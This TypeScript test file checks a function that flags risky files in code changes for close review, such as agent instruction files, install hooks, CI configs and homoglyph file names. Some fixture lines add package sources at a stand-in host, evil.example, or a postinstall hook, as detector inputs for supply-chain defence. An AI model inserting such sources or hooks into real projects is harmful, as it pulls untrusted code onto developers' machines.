import { describe, expect, test } from 'vitest';
import { notable } from '../../../src/core/patches/index.ts';
import { comparison, pullRequest } from '../../../src/core/reports/index.ts';
import { published, shownPatch } from '../reports/sample.ts';

describe('a change for a reader to review closely', () => {
  test.each([
    ['CLAUDE.md', 'instructs coding agents'],
    ['packages/a/AGENTS.md', 'instructs coding agents'],
    ['.claude/settings.json', 'instructs coding agents'],
    ['.mcp.json', 'instructs coding agents'],
    ['.codex/config.toml', 'instructs coding agents'],
    ['.agents/skills/deploy/SKILL.md', 'instructs coding agents'],
    ['.vscode/mcp.json', 'is run by git or on a developer’s machine'],
    ['.github/copilot-instructions.md', 'instructs coding agents'],
    ['.husky/pre-commit', 'is run by git or on a developer’s machine'],
    ['.vscode/tasks.json', 'is run by git or on a developer’s machine'],
    ['package-lock.json', 'decides which packages are installed, and from where'],
    ['sub/.npmrc', 'decides which packages are installed, and from where'],
    ['.gitattributes', 'changes how git reads files'],
  ])('is one to %s, which %s', (path, why) => {
    expect(notable({ path })).toBe(why);
  });

  test.each<readonly [string, string, string]>([
    ['.github/CODEOWNERS', '', 'defines who must review what'],
    ['package.json', '+    "left-pad": "^1.3.0",', 'adds or changes a dependency'],
    ['package.json', '+    "x": "git+ssh://git@evil.example/x.git"', 'takes packages from a place'],
    ['package.json', '+    "postinstall": "node x.js",', 'runs when packages are installed'],
    ['requirements-dev.txt', '+--extra-index-url https://evil.example/simple', 'takes packages from a place'],
    ['pip.conf', '', 'decides which packages are installed'],
    ['crates/a/Cargo.toml', '+serde = { git = "https://evil.example/serde" }', 'takes packages from a place'],
    ['Cargo.toml', '+serde = "1.0"', 'adds or changes a dependency'],
    ['Cargo.toml', '+[source.crates-io]', 'adds or changes a dependency'],
    ['.cargo/config.toml', '', 'decides which packages are installed'],
    ['go.mod', '+replace example.org/a => ../a', 'adds or changes a dependency'],
    ['go.mod', '+\texample.org/a v1.2.3', 'adds or changes a dependency'],
    ['Gemfile', "+source 'https://evil.example'", 'takes packages from a place'],
    ['pom.xml', '+    <repository>', 'adds or changes a dependency'],
    ['app/build.gradle.kts', '+  implementation("a:b:1")', 'adds or changes a dependency'],
    ['pyproject.toml', '+  "requests>=2",', 'adds or changes a dependency'],
    ['NuGet.config', '', 'decides which packages are installed'],
    ['build.rs', '', 'runs when packages are installed or built, or before tests'],
    ['setup.py', '', 'runs when packages are installed or built, or before tests'],
    ['tests/conftest.py', '', 'runs when packages are installed or built, or before tests'],
    ['Dockerfile', '', 'builds or runs containers'],
    ['docker/api.Dockerfile', '', 'builds or runs containers'],
    ['compose.prod.yaml', '', 'builds or runs containers'],
    ['.vscode/launch.json', '', 'is run by git or on a developer’s machine'],
    ['.idea/workspace.xml', '', 'is run by git or on a developer’s machine'],
    ['.devcontainer/devcontainer.json', '', 'is run by git or on a developer’s machine'],
    ['sub/.envrc', '', 'is run by git or on a developer’s machine'],
    ['.exrc', '', 'is run by git or on a developer’s machine'],
    ['lefthook.yml', '', 'is run by git or on a developer’s machine'],
    ['.gitlab-ci.yml', '', 'is run by CI or deploys'],
    ['Jenkinsfile', '', 'is run by CI or deploys'],
    ['.circleci/config.yml', '', 'is run by CI or deploys'],
    ['.github/actions/x/action.yml', '', 'is run by CI or deploys'],
    ['infra/main.tf', '', 'is run by CI or deploys'],
    ['k8s/app.yaml', '', 'is run by CI or deploys'],
    ['charts/app/templates/x.yaml', '', 'is run by CI or deploys'],
    ['netlify.toml', '', 'is run by CI or deploys'],
    ['vercel.json', '', 'is run by CI or deploys'],
    ['fly.toml', '', 'is run by CI or deploys'],
    ['Procfile', '', 'is run by CI or deploys'],
    ['.cursor/rules/a.mdc', '', 'instructs coding agents'],
    ['package.json', '+    "x": "evil/x"', 'adds or changes a dependency'],
    ['package.json', '+    "x": "git@github.com:evil/x.git"', 'adds or changes a dependency'],
    ['package.json', '+    "x": "gitlab:evil/x"', 'adds or changes a dependency'],
    ['package.json', '+    "x": "gist:11081aaa281"', 'adds or changes a dependency'],
    ['package.json', '+    "x": "jsr:^1"', 'adds or changes a dependency'],
    ['package.json', '+    "x": "portal:../x"', 'adds or changes a dependency'],
    ['package.json', '+    "x": "next"', 'adds or changes a dependency'],
    ['package.json', '+    "x": ""', 'adds or changes a dependency'],
    ['package.json', '+    "@a/x": "../x"', 'adds or changes a dependency'],
    ['package.json', '+    "x":\n+      "evil/x"', 'adds or changes a dependency'],
    ['package.json', '+  "dependencies": { "x": "a b c" },', 'adds or changes a dependency'],
    ['package.json', '+{"name":"a","\\u0064ependencies":{"x":"y z"}}', 'adds or changes a dependency'],
    ['package.json', '   "devDependencies": {\n+    "x": "a b",\n   }', 'adds or changes a dependency'],
    ['package.json', '   "dependencies": {\n+    "test": "1"', 'adds or changes a dependency'],
    ['package.json', '   "bundleDependencies": [\n+    "x"\n   ]', 'adds or changes a dependency'],
    ['package.json', '+  "packageManager": "yarn@4.0.0",', 'adds or changes a dependency'],
    [
      'package.json',
      '   "scripts": {\n     "a": "b"\n   },\n+  "overrides": {',
      'adds or changes a dependency',
    ],
    ['package.yaml', '+  x: y', 'adds or changes a dependency'],
    ['pyproject.toml', '+dependencies = ["evil"]', 'adds or changes a dependency'],
    ['pyproject.toml', '+project.dependencies = ["evil"]', 'adds or changes a dependency'],
    ['pyproject.toml', ' dependencies = [\n   "a",\n+  "evil",\n ]', 'adds or changes a dependency'],
    ['pyproject.toml', '+  "evil",', 'adds or changes a dependency'],
    ['pyproject.toml', '+evil = "*"', 'adds or changes a dependency'],
    ['pyproject.toml', ' [tool.poetry.dependencies]\n+evil = "x"', 'adds or changes a dependency'],
    ['pyproject.toml', ' [dependency-groups]\n+dev = ["evil"]', 'adds or changes a dependency'],
    ['pyproject.toml', '+build-backend = "evil"', 'adds or changes a dependency'],
    ['Pipfile', ' [packages]\n+evil = "*"', 'adds or changes a dependency'],
    ['Pipfile', '+evil = "*"', 'adds or changes a dependency'],
    ['Cargo.toml', '+evil = "*"', 'adds or changes a dependency'],
    ['Cargo.toml', ' [dependencies]\n+evil.workspace = true', 'adds or changes a dependency'],
    ['setup.cfg', ' install_requires =\n     a\n+    evil', 'adds or changes a dependency'],
    ['setup.cfg', '+    evil', 'adds or changes a dependency'],
    ['setup.cfg', ' [options.extras_require]\n+dev = evil', 'adds or changes a dependency'],
    ['.yarn/releases/yarn-4.cjs', '', 'decides which packages are installed'],
    ['.yarn/plugins/x.cjs', '', 'decides which packages are installed'],
    ['.pnp.cjs', '', 'decides which packages are installed'],
    ['bunfig.toml', '', 'decides which packages are installed'],
    ['gradlew', '', 'decides which packages are installed'],
    ['mvnw.cmd', '', 'decides which packages are installed'],
    ['patches/left-pad+1.3.0.patch', '', 'decides which packages are installed'],
    ['.mergify.yml', '', 'is run by CI or deploys'],
    ['.github/settings.yml', '', 'is run by CI or deploys'],
    ['app.yaml', '', 'is run by CI or deploys'],
    ['heroku.yml', '', 'is run by CI or deploys'],
    ['appspec.yml', '', 'is run by CI or deploys'],
    ['.ebextensions/a.config', '', 'is run by CI or deploys'],
    ['.do/app.yaml', '', 'is run by CI or deploys'],
    ['cloudformation.yaml', '', 'is run by CI or deploys'],
    ['rust-toolchain.toml', '', 'is run by git or on a developer’s machine'],
    ['rust-toolchain', '', 'is run by git or on a developer’s machine'],
    ['.python-version', '', 'is run by git or on a developer’s machine'],
    ['.nvmrc', '', 'is run by git or on a developer’s machine'],
    ['hooks/pre-commit', '', 'is run by git or on a developer’s machine'],
    ['.hooks/pre-push', '', 'is run by git or on a developer’s machine'],
    ['Makefile', '', 'is run by git or on a developer’s machine'],
    ['Taskfile.yml', '', 'is run by git or on a developer’s machine'],
    ['.run/a.run.xml', '', 'is run by git or on a developer’s machine'],
    ['.helix/languages.toml', '', 'is run by git or on a developer’s machine'],
    ['src/run', 'old mode 100644\nnew mode 100755', 'is, or becomes, executable'],
    ['src/run', 'new file mode 100755', 'is, or becomes, executable'],
    ['src/here', 'new file mode 120000', 'is a link to another file'],
    ['data/x.bundle', '', 'is a Git bundle or pack'],
    ['test/data/repo.git/refs/heads/a', '', 'is inside a Git repository in the tree'],
    ['src∕index.ts', '', 'has a misleading name'],
    ['docs/\u2764\ufe0f.md', '', 'has a misleading name'],
    ['src/a\u00a0b.ts', '', 'has a misleading name'],
    ['src/\u0430pi.ts', '', 'has a misleading name'],
    ['src/e\u0301.ts', '', 'has a misleading name'],
    ['src/\u05d0.ts', '', 'has a misleading name'],
    ['src /a.ts', '', 'has a misleading name'],
  ])('is one to %s with %j, which %s', (path, line, why) => {
    expect(notable({ path, section: `diff --git a/x b/x\n${line}\n` })).toContain(why);
  });

  test('is a binary file', () => {
    expect(notable({ path: 'a.png', binary: true })).toBe('is binary, so no diff shows its content');
  });

  test('is a new host in a lock file, but not an existing one', () => {
    const lock = (host: string) =>
      `       "resolved": "https://packages.example/a.tgz",\n+      "resolved": "https://${host}/b.tgz",\n`;
    const why = (host: string) => notable({ path: 'package-lock.json', section: lock(host) });
    expect(why('packages.example')).toBe('decides which packages are installed, and from where');
    expect(why('evil.example')).toContain('takes packages from a place that the lines around it do not name');
  });

  test('is a pointer to unseen content', () => {
    const section =
      'diff --git a/logo.png b/logo.png\n+version https://git-lfs.github.com/spec/v1\n+oid sha256:0\n+size 1\n';
    expect(notable({ path: 'logo.png', section })).toMatch(/Git LFS/);
  });

  test.each([
    'src/claude.ts',
    'docs/agents.md.txt',
    'README.md',
    'package.json',
    'src/.claude.ts',
    'lock.json',
    'src/objects/refs.ts',
    'docs/日本語.md',
    'src/é.ts',
    'lib/deploy.ts',
  ])('is not one to %s', (path) => {
    expect(notable({ path })).toBeNull();
  });

  test.each([
    ['package.json', '+  "version": "1.2.3",'],
    ['package.json', '+    "node": ">=24"'],
    ['package.json', '+    "test": "vitest run"'],
    ['package.json', '-    "left-pad": "^1.3.0",'],
    ['Cargo.toml', '+version = "1.2.3"'],
    ['go.mod', '+go 1.24'],
    ['pyproject.toml', '+description = "x"'],
    ['package.json', '   "scripts": {\n+    "build": "tsc",'],
    ['package.json', '   "scripts": {\n+    "lint:fix": "biome"'],
    ['package.json', '+  "name": "x",\n+  "main": "index.js",\n+  "type": "module"'],
    ['package.json', '   "exports": {\n+    "./a": "./src/a.js"'],
    ['pyproject.toml', '+requires-python = ">=3.10"'],
    ['pyproject.toml', '+  "Programming Language :: Python :: 3",'],
    ['pyproject.toml', ' [tool.ruff]\n+line-length = "1"'],
    ['pyproject.toml', ' [tool.pytest.ini_options]\n addopts = [\n+  "strict",\n ]'],
    ['Cargo.toml', ' [features]\n+std = []'],
    ['setup.cfg', ' [flake8]\n+max-line-length = 100'],
  ])('is not one to %s with %j', (path, line) => {
    expect(notable({ path, section: `@@ -1 +1 @@\n${line}\n` })).toBeNull();
  });

  test('is listed in the pull request and the comparison for every candidate', () => {
    const file = { change: 'added', additions: 1, deletions: 0, binary: false } as const;
    const many = ['a', 'b', 'c', 'd', 'e', 'f'].map((name) => ({ ...file, path: `.claude/${name}` }));
    const diffs = {
      A: { patch: shownPatch('+x', [{ ...file, path: '.mcp.json' }]) },
      C: { patch: shownPatch('+x', [...many, { ...file, path: 'Dockerfile' }]) },
      B: { patch: shownPatch('+x', [{ ...file, path: 'CLAUDE.md' }]) },
    };
    const [{ body }] = comparison(published(), diffs);
    expect(body).toContain('- **Review A closely:** `.mcp.json` instructs coding agents');
    expect(body).toContain('- **Review B closely:** `CLAUDE.md` instructs coding agents');
    expect(body).toContain(
      '- **Review C closely:** `.claude/a`, `.claude/b`, `.claude/c`, `.claude/d`, `.claude/e` and 1 more: each instructs coding agents\n' +
        '- **Review C closely:** `Dockerfile` builds or runs containers\n',
    );
    expect(pullRequest(published(), 'B', diffs).body).toContain(
      '### Look at first\n\n- `CLAUDE.md`: it instructs coding agents\n',
    );
  });
});
